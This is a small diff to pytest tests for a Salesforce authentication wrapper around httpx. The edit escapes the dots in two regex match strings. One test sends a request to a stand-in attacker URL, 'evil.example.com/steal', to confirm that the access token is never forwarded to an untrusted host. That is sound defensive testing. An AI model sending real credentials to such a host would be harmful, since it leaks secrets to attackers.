@@ -171,7 +171,7 @@ def test_token_is_never_sent_to_an_untrusted_host():
     with httpx.Client(
         auth=SalesforceAuth(StubManager(), "k"), transport=api(set(), seen=seen)
     ) as client:
-        with pytest.raises(UntrustedHostError, match="evil.example.com") as info:
+        with pytest.raises(UntrustedHostError, match=r"evil\.example\.com") as info:
             client.get("https://evil.example.com/steal")
     assert seen == []
     assert "access-1" not in str(info.value)
@@ -215,6 +215,6 @@ async def test_mismatched_client_kinds_are_refused(anyio_backend):
     async with httpx.AsyncClient(
         auth=SalesforceAuth(StubManager(), "k"), transport=api(set())
     ) as ac:
-        with pytest.raises(RuntimeError, match="httpx.Client"):
+        with pytest.raises(RuntimeError, match=r"httpx\.Client"):
             await ac.get(INSTANCE)
     assert "access" not in repr(SalesforceAuth(StubManager(), "k"))
